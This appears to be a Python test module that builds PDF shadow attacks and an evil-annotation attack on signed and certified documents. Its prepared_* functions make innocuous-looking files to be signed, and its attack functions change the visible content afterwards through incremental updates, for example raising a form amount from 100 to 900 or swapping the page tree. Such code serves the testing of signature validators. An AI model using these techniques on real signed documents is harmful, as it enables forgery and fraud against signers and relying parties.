"""Shadow attacks and attacks on certified documents: files made to be signed, and changed by an update afterwards.

`prepared_*` makes what an unsuspecting person signs; the attack of the same name shows something else later.
"""

from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from asn1crypto import keys, x509
from cryptography.hazmat.primitives import serialization
from PIL import Image
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.images import PdfImage
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.fields import MDPPerm, SigFieldSpec
from pyhanko.stamp import StaticStampStyle
from pyhanko_certvalidator.registry import SimpleCertificateStore

from signing.keys import SoftKey

Bytes = Callable[[bytes], bytes]
_COVER = b"q 1 1 1 rg 0 0 900 900 re f Q"


def _saved(document: pikepdf.Pdf) -> bytes:
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def prepared_hide(pdf: bytes) -> bytes:
    """The true text lies under a white layer that says something harmless."""
    with pikepdf.open(BytesIO(pdf)) as document:
        document.pages[0].contents_add(_COVER, prepend=False)
        return _saved(document)


def prepared_replace(pdf: bytes) -> bytes:
    """A form's field holds one text; what it shows can be exchanged like any value."""
    with pikepdf.open(BytesIO(pdf)) as document:
        form = document.make_stream(
            b"0 0 1 rg 0 0 200 20 re f", {"/Subtype": pikepdf.Name.Form, "/BBox": [0, 0, 200, 20]}
        )
        looks = pikepdf.Dictionary(N=form)
        terms: dict[str, Any] = {"Type": pikepdf.Name.Annot, "Subtype": pikepdf.Name.Widget, "FT": pikepdf.Name.Tx}
        widget = pikepdf.Dictionary(**terms, T="amount", V="100", Rect=[60, 300, 260, 320], AP=looks, F=4)
        held = document.make_indirect(widget)
        document.pages[0].obj["/Annots"] = pikepdf.Array([held])
        document.Root["/AcroForm"] = pikepdf.Dictionary(Fields=[held], DA="/Helv 0 Tf 0 g")
        return _saved(document)


def prepared_hide_and_replace(pdf: bytes) -> bytes:
    """A second tree of pages waits in the file, used by nobody yet."""
    with pikepdf.open(BytesIO(pdf)) as document:
        content = document.make_stream(b"1 0 0 rg 0 0 900 900 re f")
        page = document.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.Page, MediaBox=[0, 0, 595, 842], Contents=content)
        )
        tree = document.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Pages, Kids=[page], Count=1))
        page["/Parent"] = tree
        document.Root["/PieceInfo"] = pikepdf.Dictionary(Waiting=tree)
        return _saved(document)


def _written(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def hide(pdf: bytes) -> bytes:
    """The white layer goes."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        parts = page["/Contents"]
        page["/Contents"] = generic.ArrayObject([parts.raw_get(0)])
        writer.update_container(page)

    return _written(pdf, change)


def hide_by_emptying(pdf: bytes) -> bytes:
    """The white layer's own object becomes empty; the page is untouched."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        layer = writer.root["/Pages"]["/Kids"][0]["/Contents"].raw_get(-1)
        old = layer.get_object()
        old._data, old._encoded_data = b" ", None
        writer.mark_update(layer.reference)

    return _written(pdf, change)


def replace(pdf: bytes) -> bytes:
    """The field shows another amount."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        field = next(
            each.get_object() for each in writer.root["/AcroForm"]["/Fields"] if each.get_object()["/T"] == "amount"
        )
        box = generic.ArrayObject(generic.NumberObject(n) for n in (0, 0, 200, 20))
        terms = {generic.pdf_name("/Subtype"): generic.pdf_name("/Form"), generic.pdf_name("/BBox"): box}
        form = generic.StreamObject(terms, stream_data=b"1 0 0 rg 0 0 200 20 re f")
        field["/AP"] = generic.DictionaryObject({generic.pdf_name("/N"): writer.add_object(form)})
        field["/V"] = generic.TextStringObject("900")
        writer.update_container(field)

    return _written(pdf, change)


def hide_and_replace(pdf: bytes) -> bytes:
    """The waiting pages take the place of the signed ones."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root["/Pages"] = writer.root["/PieceInfo"].raw_get("/Waiting")
        writer.update_root()

    return _written(pdf, change)


SHADOWS: list[tuple[Bytes, Bytes]] = [
    (prepared_hide, hide),
    (prepared_hide, hide_by_emptying),
    (prepared_replace, replace),
    (prepared_hide_and_replace, hide_and_replace),
]


def signed_over(
    pdf: bytes,
    key: SoftKey,
    field: str,
    box: tuple[int, int, int, int] | None = None,
    certify: int = 0,
    opaque: bool = False,
) -> bytes:
    """Signed by stock pyHanko in a new field; `certify` is the DocMDP level, `opaque` a white picture in the box."""
    private = key._private_key.private_bytes(
        serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    store = SimpleCertificateStore()
    store.register(x509.Certificate.load(key.chain[0]))
    signer = signers.SimpleSigner(
        x509.Certificate.load(key.certificate), keys.PrivateKeyInfo.load(private), cert_registry=store
    )
    level = {"certify": True, "docmdp_permissions": MDPPerm(certify)} if certify else {}
    meta = signers.PdfSignatureMetadata(field_name=field, md_algorithm="sha256", **level)
    white = PdfImage(Image.new("RGB", (20, 20), (255, 255, 255)))
    style = StaticStampStyle(border_width=0, background=white if opaque else None, background_opacity=1.0)
    place = SigFieldSpec(field, box=box, on_page=0) if box else None
    made = signers.PdfSigner(meta, signer, stamp_style=style, new_field_spec=place)
    return made.sign_pdf(IncrementalPdfFileWriter(BytesIO(pdf))).getvalue()


def evil_annotation(pdf: bytes) -> bytes:
    """EAA: a note is laid over a certified page, which level 3 allows."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        terms = {
            "/Type": generic.pdf_name("/Annot"),
            "/Subtype": generic.pdf_name("/Square"),
            "/F": generic.NumberObject(4),
        }
        note = generic.DictionaryObject({generic.pdf_name(key): value for key, value in terms.items()})
        note["/Rect"] = generic.ArrayObject(generic.NumberObject(n) for n in (50, 500, 550, 700))
        note["/IC"] = generic.ArrayObject(generic.NumberObject(1) for _ in range(3))
        known = list(page["/Annots"]) if "/Annots" in page else []
        page["/Annots"] = generic.ArrayObject([*known, writer.add_object(note)])
        writer.update_container(page)

    return _written(pdf, change)
